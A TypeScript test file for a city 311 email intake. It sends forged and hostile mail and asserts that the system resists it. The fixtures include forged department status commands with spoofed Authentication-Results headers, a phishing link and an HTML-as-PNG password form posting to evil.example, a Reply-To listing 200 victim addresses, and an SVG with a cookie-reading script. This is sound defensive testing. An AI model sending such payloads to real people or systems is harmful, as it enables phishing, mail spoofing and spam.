// Issue 9, the attacks that arrive by mail, each reproduced as an attacker would send it: a raw message
// APPENDed to the real 311 mailbox (Dovecot), read by the real intake, with what leaves on the wire read
// at a real SMTP server. Each attack is followed by the legitimate path it must not break.
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertOutboxRows } from '../../src/notify/outbox.ts';
import { decideStatusProposal } from '../../src/requests/actions.ts';
import { waitFor } from '../helpers/db.ts';
import type { Captured } from '../helpers/smtp-peer.ts';
import { residentMail, startTestSystem, type TestSystem } from '../helpers/system.ts';
import { createStaff, signIn } from './real-http.ts';

const uniq = (): string => randomBytes(6).toString('hex');
const AUTHSERV = 'mx.danbury.example';
const CAP = 3;

describe('forged and hostile mail (issue 9)', () => {
  let t: TestSystem;
  beforeAll(async () => {
    t = await startTestSystem({ web: true, env: { CITYLINE_TRUSTED_AUTHSERV_ID: AUTHSERV, CITYLINE_AUTO_REPLY_CAP: String(CAP) } });
    await createStaff(t.db.pool, 'agent@danbury.example');
  }, 60_000);
  afterAll(async () => {
    await t?.stop();
  });

  async function settled(): Promise<void> {
    await waitFor(async () => (await t.dovecot.list('INBOX')).length === 0, 20_000, 'the INBOX to empty');
    await waitFor(async () => {
      const { rows } = await t.db.pool.query<{ n: number }>(
        `SELECT (SELECT count(*) FROM inbound_messages WHERE state IN ('stored', 'parsed')) + (SELECT count(*) FROM outbox WHERE state IN ('pending', 'sending')) AS n`,
      );
      return Number(rows[0]?.n) === 0;
    }, 20_000, 'all work to be done');
  }

  let houseNumber = 40;
  /** A resident's pothole report on a known street (a house number of its own, so it duplicates nothing): routed to Highway at once. */
  async function routedReport(from: string) {
    const messageId = `${uniq()}@resident.example`;
    houseNumber += 7;
    await t.dovecot.append(residentMail({ from, subject: 'pothole', body: `There is a deep pothole in front of ${houseNumber} Padanaram Road, it already damaged my tire.`, messageId }));
    const req = await t.requestFor(messageId);
    const confirmation = await t.smtp.waitFor((m) => m.envelopeTo.includes(from.replace(/^.*<|>$/g, '').toLowerCase()) && (m.parsed.subject ?? '').includes(req.trackingNumber), 20_000);
    const ticket = await t.smtp.waitFor((m) => m.envelopeTo.includes('highway@danbury.example') && (m.parsed.subject ?? '').includes(req.trackingNumber), 20_000);
    expect(req.status).toBe('routed');
    return { req, confirmation, ticket };
  }

  async function statusOf(id: number): Promise<string> {
    const { rows } = await t.db.pool.query<{ status: string }>('SELECT status FROM requests WHERE id = $1', [id]);
    return rows[0]?.status ?? 'missing';
  }

  async function proposalsOf(id: number) {
    const { rows } = await t.db.pool.query<{ id: number; to_status: string; state: string; claimed_actor: string; reason: string; note: string | null }>(
      'SELECT id, to_status, state, claimed_actor, reason, note FROM status_proposals WHERE request_id = $1 ORDER BY id',
      [id],
    );
    return rows;
  }

  const mailTo = (address: string): Captured[] => t.smtp.messages.filter((m) => m.envelopeTo.includes(address));

  function departmentMail(m: { from: string; to?: string; subject: string; body: string; headers?: string[] }): string {
    return [
      `From: ${m.from}`,
      `To: ${m.to ?? 'cityline311@danbury.example'}`,
      `Subject: ${m.subject}`,
      `Message-ID: <${uniq()}@attacker.example>`,
      `Date: ${new Date().toUTCString()}`,
      ...(m.headers ?? []),
      'Content-Type: text/plain; charset=utf-8',
      '',
      m.body,
      '',
    ].join('\r\n');
  }

  it('finding 1: a forged department status command (From and tracking number only, spf=softfail) changes nothing and waits for staff; staff can reject it', async () => {
    const { req } = await routedReport('ana@resident.example');
    const before = mailTo('ana@resident.example').length;
    await t.dovecot.append(departmentMail({
      from: 'Highway Dept <highway@danbury.example>',
      subject: `Re: [${req.trackingNumber}] pothole`,
      body: 'status: resolved - all done! Rate our service at http://evil.example/login',
      headers: [`Authentication-Results: ${AUTHSERV}; spf=softfail smtp.mailfrom=evil.example; dkim=none; dmarc=none`],
    }));
    await settled();
    expect(await statusOf(req.id)).toBe('routed');
    const [p] = await proposalsOf(req.id);
    expect(p).toMatchObject({ to_status: 'resolved', state: 'pending', claimed_actor: 'department:highway@danbury.example' });
    expect(p?.reason).toMatch(/not to the ticket's reply address and without a DMARC or aligned DKIM pass from mx\.danbury\.example/);
    // Nothing reached the resident: no phishing link from the city's address.
    expect(mailTo('ana@resident.example')).toHaveLength(before);
    expect(mailTo('ana@resident.example').some((m) => (m.parsed.text ?? '').includes('evil.example'))).toBe(false);

    // Staff see it in the review queue, with one key for each decision, and reject it there.
    const staff = await signIn(t.system.webUrl as string, 'agent@danbury.example');
    const queue = await staff.get('/review');
    expect(queue.body).toContain('Status changes to confirm');
    expect(queue.body).toContain(req.trackingNumber);
    expect(queue.body).toMatch(/data-key="a"[^>]*>Accept/);
    expect(queue.body).toMatch(/data-key="x"[^>]*>Reject/);
    const decided = await staff.post(`/review/proposals/${p?.id}`, { decision: 'reject' });
    expect(decided.status).toBe(303);
    expect((await proposalsOf(req.id))[0]?.state).toBe('rejected');
    expect(await statusOf(req.id)).toBe('routed');
    await settled();
    expect(mailTo('ana@resident.example')).toHaveLength(before);
  });

  it('finding 1: an Authentication-Results header written by the attacker (another authserv-id) is not believed; a department reply to its own ticket still changes the status', async () => {
    const { req, confirmation, ticket } = await routedReport('ben@resident.example');
    await t.dovecot.append(departmentMail({
      from: 'highway@danbury.example',
      subject: `[${req.trackingNumber}] update`,
      body: 'status: closed - no action needed',
      headers: [
        `Authentication-Results: ${AUTHSERV}; spf=none smtp.mailfrom=evil.example; dkim=none; dmarc=none`,
        'Authentication-Results: mx.danbury.example.evil.example; spf=pass; dkim=pass header.d=danbury.example; dmarc=pass header.from=danbury.example',
      ],
    }));
    // The resident holds the confirmation's reply address: it does not make them the department.
    await t.dovecot.append(departmentMail({
      from: 'highway@danbury.example',
      to: confirmation.parsed.replyTo?.value[0]?.address as string,
      subject: `Re: ${confirmation.parsed.subject}`,
      body: 'status: not_city - state road',
    }));
    await settled();
    expect(await statusOf(req.id)).toBe('routed');
    expect((await proposalsOf(req.id)).map((p) => p.to_status).sort()).toEqual(['closed', 'not_city']);

    // The ticket's reply address is the department's own, not the resident's.
    const ticketReplyTo = ticket.parsed.replyTo?.value[0]?.address as string;
    expect(ticketReplyTo).not.toBe(confirmation.parsed.replyTo?.value[0]?.address);
    await t.dovecot.append([
      'From: Highway Dept <highway@danbury.example>',
      `To: ${ticketReplyTo}`,
      `Subject: RE: ${ticket.parsed.subject}`,
      `Message-ID: <${uniq()}@danbury.example>`,
      `In-Reply-To: ${ticket.parsed.messageId}`,
      'Content-Type: text/plain; charset=utf-8',
      '',
      'status: in_progress - crew scheduled for Monday',
      '',
    ].join('\r\n'));
    await waitFor(async () => (await statusOf(req.id)) === 'in_progress', 20_000, 'the department command to apply');
    await t.smtp.waitFor((m) => m.envelopeTo.includes('ben@resident.example') && (m.parsed.text ?? '').includes('crew scheduled for Monday'), 20_000);
  });

  it('finding 1: an authenticated department message (DMARC pass from the trusted authserv-id) still changes the status by tracking number alone', async () => {
    const { req } = await routedReport('cara@resident.example');
    await t.dovecot.append(departmentMail({
      from: 'highway@danbury.example',
      subject: `${req.trackingNumber}`,
      body: 'status: resolved - filled on 11/27',
      headers: [`Authentication-Results: ${AUTHSERV}; spf=pass smtp.mailfrom=danbury.example; dkim=pass header.d=danbury.example; dmarc=pass header.from=danbury.example`],
    }));
    await waitFor(async () => (await statusOf(req.id)) === 'resolved', 20_000, 'the authenticated command to apply');
    expect(await proposalsOf(req.id)).toEqual([]);
  });

  it('finding 1: a staff member accepting a proposed change makes it and tells the resident', async () => {
    const { req } = await routedReport('dora@resident.example');
    await t.dovecot.append(departmentMail({ from: 'highway@danbury.example', subject: `[${req.trackingNumber}]`, body: 'status: in_progress - patching Tuesday' }));
    await settled();
    const [p] = await proposalsOf(req.id);
    expect(p?.state).toBe('pending');
    await decideStatusProposal({ pool: t.system.pool, config: t.config, routing: t.system.routing, enqueue: t.system.queues.enqueue }, { proposalId: p?.id as number, accept: true, actor: 'staff:agent@danbury.example' });
    expect(await statusOf(req.id)).toBe('in_progress');
    await t.smtp.waitFor((m) => m.envelopeTo.includes('dora@resident.example') && (m.parsed.text ?? '').includes('patching Tuesday'), 20_000);
  });

  it("finding 1 (resident role): a message that only claims the resident's From cannot reopen or be answered; the resident's real reply still threads and reopens", async () => {
    const { req, confirmation } = await routedReport('eve@resident.example');
    await t.dovecot.append(departmentMail({
      from: 'highway@danbury.example',
      subject: req.trackingNumber,
      body: 'status: resolved',
      headers: [`Authentication-Results: ${AUTHSERV}; dkim=pass header.d=danbury.example; dmarc=pass header.from=danbury.example`],
    }));
    await waitFor(async () => (await statusOf(req.id)) === 'resolved', 20_000, 'the request to be resolved');
    await settled();
    const before = mailTo('eve@resident.example').length;
    // Anyone can write the resident's From and the public tracking number.
    await t.dovecot.append(residentMail({ from: 'eve@resident.example', subject: `Re: ${req.trackingNumber}`, body: 'The pothole is back, it is even deeper now.', messageId: `${uniq()}@forger.example` }));
    await t.dovecot.append(residentMail({ from: 'eve@resident.example', subject: `${req.trackingNumber}`, body: 'What is the status of my request?', messageId: `${uniq()}@forger.example` }));
    await settled();
    expect(await statusOf(req.id)).toBe('resolved');
    expect(mailTo('eve@resident.example')).toHaveLength(before);
    const proposals = await proposalsOf(req.id);
    expect(proposals.map((p) => [p.to_status, p.claimed_actor])).toEqual([['routed', 'resident:eve@resident.example']]);
    const { rows: threaded } = await t.db.pool.query<{ n: number }>(`SELECT count(*)::int AS n FROM thread_messages WHERE request_id = $1 AND direction = 'in' AND author = 'resident'`, [req.id]);
    expect(threaded[0]?.n).toBe(3);

    // The resident's own reply, through the address we gave them, threads and reopens at once.
    await t.dovecot.append([
      'From: eve@resident.example',
      `To: ${confirmation.parsed.replyTo?.value[0]?.address}`,
      `Subject: Re: ${confirmation.parsed.subject}`,
      `Message-ID: <${uniq()}@resident.example>`,
      `In-Reply-To: ${confirmation.parsed.messageId}`,
      'Content-Type: text/plain; charset=utf-8',
      '',
      'It is back again, please come and look.',
      '',
    ].join('\r\n'));
    await waitFor(async () => (await statusOf(req.id)) === 'routed', 20_000, 'the real reply to reopen the request');
  });

  it('finding 2: a Reply-To holding 200 addresses inside one pair of brackets mails none of them; every email has exactly one recipient', async () => {
    const victims = Array.from({ length: 200 }, (_, i) => `v${i}@victims.example`);
    const messageId = `${uniq()}@attacker.example`;
    await t.dovecot.append(residentMail({
      from: 'spammer@attacker.example',
      subject: 'Buy cheap watches at http://spam.example',
      body: 'There is a pothole on Main Street near the library.',
      messageId,
      headers: { 'Reply-To': `<${victims.join(',')}>` },
    }));
    const req = await t.requestFor(messageId);
    await settled();
    expect(t.smtp.messages.filter((m) => m.envelopeTo.some((a) => a.endsWith('@victims.example')))).toEqual([]);
    const { rows } = await t.db.pool.query<{ resident_email: string }>('SELECT resident_email FROM requests WHERE id = $1', [req.id]);
    expect(rows[0]?.resident_email).toBe('spammer@attacker.example');
    const { rows: notes } = await t.db.pool.query<{ parse_notes: string[] }>('SELECT parse_notes FROM inbound_messages WHERE message_id = $1', [messageId]);
    expect(notes[0]?.parse_notes.join(' ')).toMatch(/Reply-To is not exactly one valid address/);
    for (const m of t.smtp.messages) expect(m.envelopeTo).toHaveLength(1);
    // The stranger's subject is not echoed back: that is the spam.
    const confirmation = mailTo('spammer@attacker.example').find((m) => (m.parsed.subject ?? '').includes(req.trackingNumber));
    expect(confirmation?.raw.toString()).not.toContain('spam.example');
  });

  it("finding 2: the cap counts each normalised address (case and padding changes do not reset it), and a stranger's display name is not echoed", async () => {
    const victim = 'victim@victims.example';
    for (let i = 0; i < CAP + 2; i++) {
      const from = `"Win a prize at http://prize-${i}.example" <${i % 2 ? 'VICTIM' : 'Victim'}@Victims.Example>`;
      await t.dovecot.append(residentMail({
        from,
        subject: `graffiti ${i}`,
        body: `Somebody sprayed graffiti on the wall at ${10 + i} Osborne Street.`,
        messageId: `${uniq()}@attacker.example`,
        headers: { 'Reply-To': `${victim}, pad-${i}@padding.example` },
      }));
    }
    await settled();
    const sent = mailTo(victim);
    expect(sent).toHaveLength(CAP);
    for (const m of sent) expect(m.raw.toString()).not.toMatch(/prize-\d/);
    const { rows } = await t.db.pool.query<{ state: string; n: number }>(`SELECT state, count(*)::int AS n FROM outbox WHERE to_address = $1 GROUP BY state ORDER BY state`, [victim]);
    expect(rows).toEqual([{ state: 'held', n: 2 }, { state: 'sent', n: CAP }]);
    expect(mailTo('pad-0@padding.example')).toEqual([]);
  });

  it('finding 3: a known resident (authenticated) gets every confirmation past the cap; what the cap holds for a stranger is on the dashboard and the request page, released with one click', async () => {
    const known = 'frank@known.example';
    const auth = `${AUTHSERV}; spf=pass smtp.mailfrom=known.example; dkim=pass header.d=known.example; dmarc=pass header.from=known.example`;
    for (let i = 0; i < CAP + 2; i++) {
      await t.dovecot.append(residentMail({
        from: `Frank Miller <${known}>`,
        subject: `streetlight ${i}`,
        body: `The streetlight in front of ${20 + i} Deer Hill Avenue is out.`,
        messageId: `${uniq()}@known.example`,
        headers: { 'Authentication-Results': auth },
      }));
    }
    await settled();
    const answers = mailTo(known);
    expect(answers).toHaveLength(CAP + 2);
    // A known resident is greeted by name and sees their own subject.
    expect(answers[0]?.parsed.text).toContain('Hello Frank Miller');
    expect(answers[0]?.parsed.text).toContain('Your subject: streetlight');

    // A stranger over the cap: held, visible and releasable.
    const stranger = 'gina@unknown.example';
    const ids: string[] = [];
    for (let i = 0; i < CAP + 1; i++) {
      const messageId = `${uniq()}@unknown.example`;
      ids.push(messageId);
      await t.dovecot.append(residentMail({ from: stranger, subject: `bin ${i}`, body: `My recycling bin at ${30 + i} Main Street was not picked up this week.`, messageId }));
    }
    await settled();
    expect(mailTo(stranger)).toHaveLength(CAP);
    const { rows: held } = await t.db.pool.query<{ id: number; request_id: number; last_error: string }>(`SELECT id, request_id, last_error FROM outbox WHERE to_address = $1 AND state = 'held'`, [stranger]);
    expect(held).toHaveLength(1);
    expect(held[0]?.last_error).toMatch(/^held: automatic-mail limit/);
    const staff = await signIn(t.system.webUrl as string, 'agent@danbury.example');
    const dashboard = await staff.get('/dashboard');
    expect(dashboard.body).toContain('Mail held by the automatic-mail limit');
    expect(dashboard.body).toContain(stranger);
    const page = await staff.get(`/requests/${held[0]?.request_id}`);
    expect(page.body).toContain('Held: automatic-mail limit');
    const released = await staff.post(`/dashboard/outbox/${held[0]?.id}/release`, { requestId: String(held[0]?.request_id) });
    expect(released.status).toBe(303);
    expect(released.headers.get('location')).toBe(`/requests/${held[0]?.request_id}?mail=released`);
    await waitFor(() => mailTo(stranger).length === CAP + 1, 20_000, 'the released confirmation to be sent');
  });

  it('issue 10 item 5: an invalid From (<<<@@@>>> "unclosed) goes to review with no mail, and nothing retries', async () => {
    const messageId = `${uniq()}@broken.example`;
    await t.dovecot.append(residentMail({ from: '<<<@@@>>> "unclosed', subject: 'tree down', body: 'A tree fell on Kohanza Street near number 20.', messageId }));
    const req = await t.requestFor(messageId);
    await settled();
    const { rows } = await t.db.pool.query<{ status: string; review_reasons: string[]; resident_email: string | null; outbox: number }>(
      `SELECT status, review_reasons, resident_email, (SELECT count(*)::int FROM outbox WHERE request_id = r.id) AS outbox FROM requests r WHERE id = $1`,
      [req.id],
    );
    expect(rows[0]).toMatchObject({ status: 'needs_review', resident_email: null, outbox: 0 });
    expect(rows[0]?.review_reasons).toContain('no_valid_sender');
    const failed = await t.system.queues.queue('notify').getFailedCount();
    expect(failed).toBe(0);
  });

  it('finding 9: only attachments whose bytes are a raster image are forwarded to the department; HTML posing as a PNG and SVG with script are kept for staff', async () => {
    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    const part = (type: string, name: string, body: string) => [
      '--b1', `Content-Type: ${type}; name="${name}"`, `Content-Disposition: attachment; filename="${name}"`, 'Content-Transfer-Encoding: base64', '', body, '',
    ];
    const messageId = `${uniq()}@resident.example`;
    houseNumber += 7;
    await t.dovecot.append([
      'From: hal@resident.example',
      'To: cityline311@danbury.example',
      'Subject: pothole',
      `Message-ID: <${messageId}>`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/plain; charset=utf-8',
      '',
      `There is a deep pothole in front of ${houseNumber} Padanaram Road, photos attached.`,
      '',
      ...part('image/png', 'hole.png', png),
      ...part('image/png', 'invoice.png', Buffer.from('<html><body><form action="http://evil.example/login"><input name="password"></form></body></html>').toString('base64')),
      ...part('image/svg+xml', 'map.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>').toString('base64')),
      '--b1--',
      '',
    ].join('\r\n'));
    const req = await t.requestFor(messageId);
    const ticket = await t.smtp.waitFor((m) => m.envelopeTo.includes('highway@danbury.example') && (m.parsed.subject ?? '').includes(req.trackingNumber), 20_000);
    expect(ticket.parsed.attachments.map((a) => a.filename)).toEqual(['hole.png']);
    expect(ticket.parsed.text).toMatch(/NOT ATTACHED \(2: not verified images/);
    expect(ticket.parsed.text).toContain('invoice.png');
    expect(ticket.parsed.text).toContain('map.svg');
    // Staff still have all three.
    const { rows } = await t.db.pool.query<{ filename: string; forwardable: boolean }>(
      `SELECT a.filename, a.forwardable FROM attachments a JOIN inbound_messages i ON i.id = a.inbound_message_id WHERE i.message_id = $1 ORDER BY a.part_index`,
      [messageId],
    );
    expect(rows).toEqual([{ filename: 'hole.png', forwardable: true }, { filename: 'invoice.png', forwardable: false }, { filename: 'map.svg', forwardable: false }]);
  });

  it("issue 8's note: an email whose recipient is not one valid address fails at once, with its reason, instead of retrying", async () => {
    const { req } = await routedReport('ivy@resident.example');
    const rows = ['victim@x.example, other@x.example', '<<<@@@>>>'].map((to, i) => ({
      dedupeKey: `bad-recipient-${req.id}-${i}`, requestId: req.id, kind: 'status_update' as const, toAddress: to, replyTo: null, subject: 'x',
      messageId: `bad-${uniq()}@danbury.example`, inReplyTo: null, references: [], language: 'en' as const, text: 'x', html: null, attachmentIds: [], headers: {},
    }));
    const ids = await insertOutboxRows(t.system.pool, rows);
    for (const id of ids) await t.system.queues.enqueue('notify', { outboxId: id as number });
    const failed = await waitFor(async () => {
      const { rows: r } = await t.db.pool.query<{ state: string; attempts: number; last_error: string }>('SELECT state, attempts, last_error FROM outbox WHERE id = ANY($1) ORDER BY id', [ids]);
      return r.every((x) => x.state === 'failed') ? r : undefined;
    }, 20_000, 'both rows to fail');
    for (const r of failed) {
      expect(r.attempts).toBe(1);
      expect(r.last_error).toMatch(/not exactly one valid recipient address/);
    }
    expect(t.smtp.messages.filter((m) => m.envelopeTo.some((a) => a.endsWith('@x.example')))).toEqual([]);
  });
});
